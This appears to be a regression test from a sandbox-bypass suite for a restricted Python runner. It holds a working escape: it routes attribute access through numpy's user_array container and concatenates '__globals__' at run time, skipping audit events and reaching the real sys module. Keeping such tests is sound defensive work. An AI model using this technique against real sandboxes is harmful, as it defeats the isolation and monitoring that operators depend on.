# Variant of 156 in another library class, so that a fix for Arrayterator alone does not close
# the class: numpy.lib.user_array.container.__getattr__ relays any name to
# `self.array.__getattribute__(attr)`, in numpy's frame, and `array` is a plain instance
# attribute. Called by hand with a name built at run time, it read a library function's
# __globals__ (no audit event). Found by a sixth red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "157_user_array_getattr_relay"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np
from numpy.lib.user_array import container

box = container(np.zeros(1))
box.array = np.lib.who  # defined in numpy/lib/utils.py
namespace = box.__getattr__("__glo" + "bals__")
real_sys = namespace["sys"]
won("%s modules=%d" % (real_sys, len(real_sys.modules)))
